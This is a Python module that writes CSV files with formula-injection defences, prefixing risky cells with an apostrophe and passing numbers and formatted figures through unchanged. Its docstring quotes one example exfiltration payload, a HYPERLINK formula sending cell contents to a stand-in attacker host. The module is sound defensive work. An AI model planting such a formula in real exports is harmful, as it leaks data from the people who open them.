"""The one way the project writes CSV: cells a spreadsheet would run as a formula are
defused (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@`
(and, after a tab or a carriage return, whatever follows) as a formula: a ticket subject
like `=HYPERLINK("http://evil.example?"&A1)` would run on a supervisor's machine. Such
text is written with a leading apostrophe, which spreadsheets show as text. Real numbers
(int, float, Decimal) and `Figure`s (numbers already formatted for the reader, e.g.
"-1140,0") are written as they are, so a negative figure stays a number.
"""

from __future__ import annotations

import csv
import re
from decimal import Decimal
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What formats.number_format() can produce: sign, digits, grouping and decimal marks.
_FIGURE = re.compile(r"-?\d[\d \u00a0\u202f.,']*")


class Figure(str):
    """A number already formatted for the reader ("-1 140,5"): written unquoted.

    Only text that really is a formatted number keeps this privilege; anything else
    wrapped in Figure is defused like any other text.
    """


def safe_cell(value: Any) -> Any:
    """`value` as it may go into a CSV cell: text that a spreadsheet would take for a
    formula gets a leading apostrophe; numbers and genuine figures are left alone."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if isinstance(value, Figure) and _FIGURE.fullmatch(text):
        return text
    if text.startswith(FORMULA_START):
        return "'" + text
    return text


class _Writer(Protocol):
    def writerow(self, row, /) -> Any: ...


class SafeWriter:
    """csv.writer's writerow/writerows, every cell passed through safe_cell()."""

    def __init__(self, writer: _Writer):
        self._writer = writer

    def writerow(self, row) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(buffer, **options) -> SafeWriter:
    """A CSV writer on `buffer` (csv.writer's options) that defuses formulas.

    The dialect defaults to what Excel with Russian regional settings opens without an
    import wizard: `;` between fields, CRLF line ends.
    """
    options.setdefault("delimiter", ";")
    options.setdefault("lineterminator", "\r\n")
    return SafeWriter(csv.writer(buffer, **options))
